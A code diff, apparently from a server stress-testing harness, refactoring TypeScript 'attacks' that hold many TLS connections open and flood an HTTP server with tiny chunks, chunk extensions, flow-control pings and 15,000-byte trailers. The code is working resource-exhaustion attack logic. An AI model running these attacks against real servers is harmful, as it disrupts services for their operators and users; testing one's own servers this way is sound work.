@@ -30,16 +30,15 @@ async function openBody(target: AttackTarget): Promise<TLSSocket> {
   return socket;
 }
 
-/** Keeps bodies open, and writes chunks on each as fast as it takes them. */
-async function sendChunks(
-  target: AttackTarget,
-  bodies: TLSSocket[],
+/** Keeps connections open, and writes the same on each as fast as it takes it. */
+async function sendOnEach(
+  sockets: TLSSocket[],
   signal: AbortSignal,
-  bytes = chunks,
+  { open, bytes }: { readonly open: () => Promise<TLSSocket>; readonly bytes: Uint8Array },
 ): Promise<void> {
   while (!signal.aborted) {
-    for (const [index, socket] of bodies.entries()) {
-      if (socket.destroyed) bodies[index] = await openBody(target);
+    for (const [index, socket] of sockets.entries()) {
+      if (socket.destroyed) sockets[index] = await open();
       else if (socket.writableLength === 0) socket.write(bytes);
     }
     await new Promise((resolve) => setImmediate(resolve));
@@ -52,7 +51,7 @@ export const smallChunks: Attack = {
   async run(target, signal, begun) {
     const bodies = await openSeveral(4, () => openBody(target), signal);
     begun();
-    await sendChunks(target, bodies, signal);
+    await sendOnEach(bodies, signal, { open: () => openBody(target), bytes: chunks });
   },
 };
 
@@ -64,7 +63,7 @@ export const owedChunks: Attack = {
     const bodies = await openSeveral(200, () => openBody(target), signal);
     begun();
     debtor?.write(emptyPings);
-    await sendChunks(target, bodies, signal);
+    await sendOnEach(bodies, signal, { open: () => openBody(target), bytes: chunks });
   },
 };
 
@@ -109,7 +108,7 @@ export const chunkExtensions: Attack = {
   async run(target, signal, begun) {
     const bodies = await openSeveral(20, () => openBody(target), signal);
     begun();
-    await sendChunks(target, bodies, signal, extended);
+    await sendOnEach(bodies, signal, { open: () => openBody(target), bytes: extended });
   },
 };
 
@@ -118,17 +117,12 @@ export const trailers: Attack = {
   title: '20 connections of a stranger send empty bodies with trailers of 15,000 bytes',
   hasPreparation: true,
   async run(target, signal, begun) {
-    const bodies = await openSeveral(20, () => openRaw(target), signal);
+    const open = () => openRaw(target);
+    const sockets = await openSeveral(20, open, signal);
     begun();
     const trailer = `X: ${'a'.repeat(15_000)}`;
-    const body = Buffer.from(`${chunkedHead(target)}0\r\n${trailer}\r\n\r\n`.repeat(4));
-    while (!signal.aborted) {
-      for (const [index, socket] of bodies.entries()) {
-        if (socket.destroyed) bodies[index] = await openRaw(target);
-        else if (socket.writableLength === 0) socket.write(body);
-      }
-      await new Promise((resolve) => setImmediate(resolve));
-    }
+    const bytes = Buffer.from(`${chunkedHead(target)}0\r\n${trailer}\r\n\r\n`.repeat(4));
+    await sendOnEach(sockets, signal, { open, bytes });
   },
 };
 
